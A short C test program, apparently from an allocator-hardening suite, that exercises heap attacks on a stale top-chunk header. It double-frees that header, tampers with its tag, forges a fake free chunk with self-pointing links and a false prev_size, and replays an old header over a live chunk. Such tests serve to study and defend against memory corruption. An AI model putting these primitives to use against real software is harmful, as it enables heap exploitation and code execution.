/* Usage: stale_top SIZE freed|turned|foot|replayed
   Where top began before it moved, its old header is left in memory that is
   handed out again. "freed" frees it, "turned" turns its tag first; "foot"
   leads a chunk there that is made to look as if the one in front was free.
   "replayed" keeps what it read of top's header, and writes it over the chunk
   in use that begins there now. */
#include "attack.h"

int main(int argc, char **argv)
{
    size_t n = size_arg(argv), half = (n + 15) & ~15ul;
    /* Above all that is free, so that top lies behind it. */
    take(n);
    unsigned char *last = take_raw(half), *top = behind(last);
    uint64_t header = *(uint64_t *)size_word(top);
    if (is(argv, "replayed")) {
        unsigned char *b = take_raw(n);
        take(n);
        CHECK(b == top);
        *(uint64_t *)size_word(top) = header;
        drop(last);
        drop(b);
        return settle();
    }
    drop(last);
    unsigned char *whole = take_raw(2 * n), *victim = take_raw(n);
    take(n);
    CHECK(whole == last && top < whole + 2 * n && victim == behind(whole));
    if (is(argv, "turned"))
        *tag(top) ^= 0xfffffffe;
    if (is(argv, "foot")) {
        links(top)[0] = links(top)[1] = address(top);
        *prev_size(victim) = (uint64_t)(victim - top);
        *(unsigned char *)size_word(victim) &= ~1;
        to_bin(victim);
    } else {
        free(opaque(top));
    }
    for (int i = 0; i < 100; i++)
        take(n);
    return settle();
}
